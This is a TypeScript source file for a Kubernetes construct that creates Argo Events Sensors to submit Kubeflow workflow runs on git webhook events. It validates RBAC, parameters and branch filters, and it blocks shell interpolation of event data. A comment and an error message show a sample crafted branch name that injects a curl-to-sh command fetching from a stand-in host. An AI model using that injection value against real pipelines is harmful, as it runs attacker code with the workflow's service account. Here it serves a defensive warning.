import { Construct } from 'constructs';
import { ProfileWorkflowTemplate } from '../kubeflow/profile-workflow-template';
import { ShellSink } from '../kubeflow/shell-sinks';
import { Platform, resolvePlatform } from '../platform';
import {
  checkBoolean, checkDnsLabel, checkDnsSubdomain, checkKnownKeys, checkList, checkNamespace, fail, propNames, requireString, snapshotProps, ValidationError, Where, whereIn,
} from '../validation';
import { ArgoEventsRbac, workflowVerbs } from './argo-events-rbac';
import { EventField } from './event-field';
import { SensorObject, TriggerParameter } from './events-api';
import { WebhookEventSource } from './webhook-event-source';

const at = whereIn('WorkflowTrigger');

/** A WorkflowTemplate given by name instead of as a construct. */
export interface WorkflowTemplateReference {
  /** Template name. */
  readonly name: string;
  /** Namespace the template lives in (the namespace the Workflow is submitted to). */
  readonly namespace: string;
  /**
   * Parameters the template declares, to check the mapping against.
   * @default - taken from the ProfileWorkflowTemplate of that name in this app
   */
  readonly parameterNames?: string[];
  /**
   * The template is managed outside this app, so it cannot be looked up here.
   * @default false
   */
  readonly external?: boolean;
}

// the compiler checks this list against the props interface (propNames)
const PROPS = propNames<WorkflowTriggerProps>()(
  'platform', 'submitFrom', 'eventSource', 'eventName', 'template', 'namespace', 'rbac', 'parameters', 'branches', 'name',
  'allowShellInterpolation',
);

/** Props for {@link WorkflowTrigger}. */
export interface WorkflowTriggerProps {
  /**
   * Platform preset: which Argo Events trigger operations exist.
   * @default - the event source's platform
   */
  readonly platform?: Platform;

  /**
   * Use `operation: submit-from` (Argo Events v1.8+, platforms KFP_2_2/KFP_2_5) instead of
   * submitting a `workflowTemplateRef` Workflow. submit-from cannot pass event fields as
   * workflow parameters, so it is refused together with `parameters`.
   * @default false
   */
  readonly submitFrom?: boolean;

  /** The event source whose events start the workflow. */
  readonly eventSource: WebhookEventSource;

  /**
   * Which of the source's events to react to.
   * @default - the source's only event
   */
  readonly eventName?: string;

  /**
   * The WorkflowTemplate to run: the construct itself, or a reference that names one in
   * this app (or one marked `external`).
   */
  readonly template: ProfileWorkflowTemplate | WorkflowTemplateReference;

  /**
   * Namespace the Workflow is submitted to; must be the template's.
   * @default - the template's namespace
   */
  readonly namespace?: string;

  /**
   * Sensor RBAC. The Sensor runs as its ServiceAccount, which must be in the Sensor's
   * namespace and grant `submit`. The trigger binds it in its target namespace
   * ({@link ArgoEventsRbac.grantIn}).
   * @default - ServiceAccount "operate-workflow-sa" in the source's namespace, managed elsewhere
   */
  readonly rbac?: ArgoEventsRbac;

  /**
   * Workflow parameters filled from the event: template parameter name → event field, e.g.
   * `{ 'repo-url': EventField.repositoryUrl(), revision: EventField.revision() }`.
   * Every name must be a parameter the template declares.
   * @default {}
   */
  readonly parameters?: Record<string, EventField>;

  /**
   * Only react to pushes to these branches (github/gitlab). Deleting one of them (a push whose
   * `after` is all zeros) does not trigger.
   * @default - every push
   */
  readonly branches?: string[];

  /**
   * Sensor name.
   * @default - "<source>-<template>" (with the namespace when it differs per profile)
   */
  readonly name?: string;

  /**
   * Let event data reach a template's `script.source` or the script of a `sh -c`. Risky: Argo
   * substitutes `{{…}}` as text, so whoever can send an event (a git push with a crafted branch
   * name such as `x";curl${IFS}evil|sh;"`) runs code in the profile namespace. Pass values as
   * environment variables or positional arguments instead (see the error message).
   * @default false
   */
  readonly allowShellInterpolation?: boolean;
}

/**
 * A Sensor that submits a Workflow running a WorkflowTemplate (`spec.workflowTemplateRef`)
 * whenever its event source fires. Submitting a `workflowTemplateRef` Workflow works on Argo
 * Events v1.5, which has no `submit-from`. The Workflow goes into the template's namespace
 * (a Kubeflow profile) and runs with the template's service account and injection settings;
 * the Sensor itself runs as `operate-workflow-sa`.
 */
export class WorkflowTrigger extends Construct {
  /** The Sensor (also `ApiObject.of(trigger)`). */
  public readonly sensor: SensorObject;
  /** Sensor name. */
  public readonly name: string;
  /** Dependency name used in the Sensor. */
  public readonly dependencyName: string;
  /** Namespace the Workflow is submitted to. */
  public readonly targetNamespace: string;
  /** Name of the WorkflowTemplate it runs. */
  public readonly templateName: string;
  /** The platform preset. */
  public readonly platform: Platform;

  constructor(scope: Construct, id: string, props: WorkflowTriggerProps) {
    super(scope, id);
    // A construct whose props are refused leaves the tree as it was (it removes itself).
    try {
      props = snapshotProps('WorkflowTrigger', props);
      if (!props) fail(at('props'), props, 'are required', 'pass { eventSource, template }');
      checkKnownKeys(at(''), props, PROPS);
      const source = props.eventSource;
      if (!(source instanceof WebhookEventSource)) {
        fail(at('eventSource'), typeof source, 'must be a WebhookEventSource construct', 'pass the event source instance');
      }
      this.platform = resolvePlatform(at('platform'), props.platform, this, { platform: source.platform, from: 'eventSource' });
      const submitFrom = checkBoolean(at('submitFrom'), props.submitFrom ?? false);
      if (submitFrom && !this.platform.spec.argoEvents.submitFrom) {
        fail(at('submitFrom'), true,
          `is not available on platform ${this.platform.id} (${this.platform.spec.argoEvents.release} has no submit-from operation)`,
          'leave submitFrom off: a workflowTemplateRef Workflow runs the same template on every release');
      }
      if (submitFrom && props.parameters && Object.keys(props.parameters).length > 0) {
        fail(at('submitFrom'), true, 'cannot pass event fields as workflow parameters (parameters is set)',
          'leave submitFrom off to map parameters, or drop parameters');
      }
      const eventName = props.eventName ?? source.eventNames[0];
      if (!source.eventNames.includes(eventName)) {
        fail(at('eventName'), eventName,
          `is not an event of EventSource "${source.name}" (it emits ${source.eventNames.map((e) => `"${e}"`).join(', ')})`, 'use one of those names');
      }

      const template = resolveTemplate(this, props.template);
      this.templateName = template.name;
      this.targetNamespace = checkNamespace(at('namespace'), props.namespace ?? template.namespace);
      if (this.targetNamespace !== template.namespace) {
        fail(at('namespace'), this.targetNamespace,
          `does not hold the template "${template.name}", which is in "${template.namespace}" (a workflowTemplateRef only finds templates in the Workflow's own namespace)`,
          'leave namespace out, or pass the template of that namespace');
      }

      const sensorNamespace = source.namespace;
      let serviceAccountName = 'operate-workflow-sa';
      if (props.rbac !== undefined) {
        if (!(props.rbac instanceof ArgoEventsRbac)) {
          fail(at('rbac'), typeof props.rbac, 'must be an ArgoEventsRbac construct', 'pass the ArgoEventsRbac instance');
        }
        if (props.rbac.namespace !== sensorNamespace) {
          fail(at('rbac'), props.rbac.namespace,
            `puts the ServiceAccount in "${props.rbac.namespace}" but the Sensor runs in "${sensorNamespace}" (a pod can only use a ServiceAccount of its own namespace)`,
            'put ArgoEventsRbac in the event source namespace');
        }
        const needed = workflowVerbs([submitFrom ? 'submit-from' : 'submit']);
        const granted = workflowVerbs(props.rbac.operations);
        if (!needed.every((v) => granted.includes(v))) {
          fail(at('rbac'), props.rbac.operations,
            `does not grant the verbs ${submitFrom ? 'submit-from' : 'submit'} needs on workflows (${needed.join(', ')})`,
            `add "${submitFrom ? 'submit-from' : 'submit'}" to ArgoEventsRbac operations`);
        }
        serviceAccountName = props.rbac.serviceAccountName;
      }

      const params = props.parameters ?? {};
      if (params === null || typeof params !== 'object' || Array.isArray(params)) {
        fail(at('parameters'), params, 'must be an object of parameter name to EventField', 'pass e.g. { revision: EventField.revision() }');
      }
      const paramNames = Object.keys(params).sort();
      for (const p of paramNames) {
        if (template.parameterNames && !template.parameterNames.includes(p)) {
          fail(at(`parameters.${p}`), p,
            `is not a parameter of WorkflowTemplate "${template.name}" (it declares ${template.parameterNames.map((n) => `"${n}"`).join(', ') || 'none'})`,
            'declare it in the template\'s arguments.parameters or map one of the declared names');
        }
        if (!(params[p] instanceof EventField)) {
          fail(at(`parameters.${p}`), params[p], 'must be an EventField', 'use EventField.revision(), EventField.path("body.x"), …');
        }
      }
      const allowShell = checkBoolean(at('allowShellInterpolation'), props.allowShellInterpolation ?? false);
      const sink = allowShell ? undefined : template.shellSinks?.(paramNames)[0];
      if (sink) {
        fail(at(`parameters.${sink.parameter}`), params[sink.parameter].description,
          `would become code: WorkflowTemplate "${template.name}" puts it into the ${sink.location} of template "${sink.template}", and Argo substitutes {{…}} as text, so a crafted event (e.g. a branch named x";curl\${IFS}evil|sh;") runs commands as the workflow's service account`,
          'pass it as data: an environment variable (env: [{ name: "BRANCH", value: "{{inputs.parameters.branch}}" }], then "$BRANCH" in the script) or a positional argument after the script (args: [\'git clone --branch "$1" …\', "sh", "{{inputs.parameters.branch}}"]); or set allowShellInterpolation: true if the event source is trusted');
      }
      const branches = props.branches === undefined ? undefined : checkList(at('branches'), props.branches, checkBranch);
      if (branches && source.type === 'webhook') {
        fail(at('branches'), branches, 'needs a github or gitlab source (a generic webhook has no push ref)', 'remove branches');
      }

      // the Sensor's account may act in the target namespace, and (without clusterWide) only there
      props.rbac?.grantIn(this.targetNamespace);

      const defaultName = `${source.name}-${template.name}`;
      this.name = checkDnsLabel(at('name'), props.name ?? defaultName);
      this.dependencyName = `${source.name}-${eventName}`;

      const parameters: TriggerParameter[] = paramNames.map((p, i) => ({
        src: { dependencyName: this.dependencyName, ...resolveField(params[p], source, p) },
        dest: `spec.arguments.parameters.${i}.value`,
      }));

      this.sensor = new SensorObject(this, 'Resource', {
        metadata: { name: this.name, namespace: sensorNamespace },
        spec: {
          template: {
            serviceAccountName,
            ...(source.eventBus ? { metadata: { annotations: { ...source.eventBus.clientPodAnnotations } } } : {}),
          },
          dependencies: [{
            name: this.dependencyName,
            eventSourceName: source.name,
            eventName,
            // Argo Events matches string data filters as regular expressions: anchor and escape,
            // or "main" would also match "refs/heads/main-old". A branch deletion is a push too
            // (GitHub and GitLab send `after` as forty zeros): the second filter, ANDed, needs a
            // commit in `after` (Go regexp has no look-ahead, so: any non-zero hex digit).
            ...(branches ? {
              filters: {
                data: [
                  { path: 'body.ref', type: 'string', value: branches.map((b) => `^refs/heads/${escapeRegExp(b)}$`) },
                  { path: 'body.after', type: 'string', value: ['[1-9a-f]'] },
                ],
              },
            } : {}),
          }],
          triggers: [{
            template: {
              name: `submit-${template.name}`,
              argoWorkflow: submitFrom
                ? {
                  operation: 'submit-from',
                  source: {
                    resource: {
                      apiVersion: 'argoproj.io/v1alpha1',
                      kind: 'WorkflowTemplate',
                      metadata: { name: template.name, namespace: this.targetNamespace },
                    },
                  },
                }
                : {
                  operation: 'submit',
                  source: {
                    resource: {
                      apiVersion: 'argoproj.io/v1alpha1',
                      kind: 'Workflow',
                      metadata: { generateName: `${template.name}-`, namespace: this.targetNamespace },
                      spec: {
                        workflowTemplateRef: { name: template.name },
                        ...(paramNames.length ? { arguments: { parameters: paramNames.map((name) => ({ name, value: '' })) } } : {}),
                      },
                    },
                  },
                  parameters,
                },
            },
          }],
        },
      });
    } catch (e) {
      scope.node.tryRemoveChild(id);
      throw e;
    }
  }
}

interface ResolvedTemplate {
  readonly name: string;
  readonly namespace: string;
  readonly parameterNames?: readonly string[];
  /** Where parameters become code; undefined for templates managed elsewhere (not visible here). */
  readonly shellSinks?: (parameters: readonly string[]) => ShellSink[];
}

function resolveTemplate(scope: Construct, t: ProfileWorkflowTemplate | WorkflowTemplateReference): ResolvedTemplate {
  const where = { owner: 'WorkflowTrigger', prop: 'template' };
  if (t instanceof ProfileWorkflowTemplate) return { name: t.name, namespace: t.namespace, parameterNames: t.parameterNames, shellSinks: (p) => t.shellSinks(p) };
  if (!t || typeof t !== 'object') {
    fail(at('template'), t, 'must be a ProfileWorkflowTemplate or { name, namespace }', 'pass the template construct');
  }
  checkKnownKeys(where, t, ['name', 'namespace', 'parameterNames', 'external']);
  checkDnsSubdomain({ ...where, prop: 'template.name' }, t.name);
  checkNamespace({ ...where, prop: 'template.namespace' }, t.namespace);
  const external = checkBoolean({ ...where, prop: 'template.external' }, t.external ?? false);
  const all = scope.node.root.node.findAll().filter((c): c is ProfileWorkflowTemplate => c instanceof ProfileWorkflowTemplate);
  const found = all.find((c) => c.name === t.name && c.namespace === t.namespace);
  if (!found && !external) {
    const same = all.filter((c) => c.namespace === t.namespace).map((c) => `"${c.name}"`);
    fail(at('template.name'), t.name,
      `names no WorkflowTemplate in namespace "${t.namespace}" of this app (${same.length ? `it has ${same.join(', ')}` : 'it has none'})`,
      'pass the ProfileWorkflowTemplate itself, fix the name, or set external: true for a template managed elsewhere');
  }
  const declared = t.parameterNames === undefined ? undefined
    : checkList({ ...where, prop: 'template.parameterNames' }, t.parameterNames, (w, v) => {
      requireString(w, v);
      return v;
    }, { allowEmpty: true });
  return { name: t.name, namespace: t.namespace, parameterNames: declared ?? found?.parameterNames, shellSinks: found && ((p) => found.shellSinks(p)) };
}

function resolveField(field: EventField, source: WebhookEventSource, param: string) {
  try {
    return field.resolve(source.type);
  } catch (e) {
    if (e instanceof ValidationError) {
      fail(at(`parameters.${param}`), field.description, `cannot be read from a ${source.type} event: ${e.message}`,
        'use EventField.path("body.<field>") for generic webhooks');
    }
    throw e;
  }
}

function checkBranch(where: Where, value: unknown): string {
  requireString(where, value);
  if (value.startsWith('refs/') || /[\s~^:?*[\\]/.test(value) || value.includes('..')) {
    fail(where, value, 'must be a plain branch name (without refs/heads/)', 'use e.g. "main"');
  }
  return value;
}

function escapeRegExp(s: string): string {
  return s.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
}
